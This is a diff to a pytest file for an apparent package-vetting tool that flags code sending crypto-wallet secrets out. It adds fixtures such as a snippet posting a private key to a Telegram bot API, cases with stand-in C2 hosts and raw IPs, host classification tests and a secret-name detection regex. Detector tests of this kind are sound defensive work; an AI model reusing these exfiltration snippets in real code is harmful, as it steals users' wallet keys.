@@ -10,7 +10,13 @@ import pytest
 from featurepkgs import make_archive
 from vetpy.features.extract import extract_features
 from vetpy.features.interface import Evidence
-from vetpy.features.source.custody import CUSTODY_TOKEN, custody_name, outside_host
+from vetpy.features.source.custody import (
+    CUSTODY_TOKEN,
+    blatant_host,
+    custody_level,
+    custody_name,
+    outside_host,
+)
 
 
 def custody(code: str) -> tuple[Evidence, ...]:
@@ -51,6 +57,15 @@ TELEGRAM = (
         (RAW_IP, 4, "private_key", "203.0.113.5"),
         (PAYLOAD_DICT, 6, "mnemonic", "wallet-verify.example-c2.xyz"),
         (TELEGRAM, 4, "seed_phrase", "api.telegram.org"),
+        # a private key alone (no chain or wallet word) counts when it goes to a raw address or a bot API
+        (RAW_IP.rsplit("CHAIN", 1)[0], 4, "private_key", "203.0.113.5"),
+        (
+            "import requests\ndef sign(private_key):\n"
+            "    requests.get('https://api.telegram.org/bot1:A/sendMessage', params={'text': private_key})\n",
+            3,
+            "private_key",
+            "api.telegram.org",
+        ),
         (  # a camelCase dict key, in a query string built around the secret
             "import requests\ndef f(pk):\n"
             "    requests.post('https://a.example-c2.xyz/x', json={'privateKey': pk})\nWALLETS = []\n",
@@ -208,6 +223,35 @@ def test_custody_names(name: str, expected: bool) -> None:
 )
 def test_outside_hosts(host: str, expected: bool) -> None:
     assert outside_host(host) is expected
+
+
+@pytest.mark.parametrize(
+    ("host", "expected"),
+    [
+        ("203.0.113.5", True),
+        ("api.telegram.org", True),
+        ("webhook.site", True),
+        ("10.0.0.7", False),
+        ("push-service.example-c2.xyz", False),  # a named host: perhaps the service that issued the key
+        ("github.com", False),
+    ],
+)
+def test_blatant_hosts(host: str, expected: bool) -> None:
+    assert blatant_host(host) is expected
+
+
+@pytest.mark.parametrize(
+    ("text", "level"),
+    [
+        ("x = 1", 0),
+        ("private_key = k", 1),
+        ("private_key = k  # wallet", 2),
+        ("mnemonic", 2),
+        ("seed phrase", 2),
+    ],
+)
+def test_custody_levels(text: str, level: int) -> None:
+    assert custody_level(text) == level
 
 
 _SPELLED = r"priv(?:ate)?[ _-]?key|mnemonic|(?:seed|recovery|secret)[ _-]?(?:phrase|words)|wallet[ _-]?key"
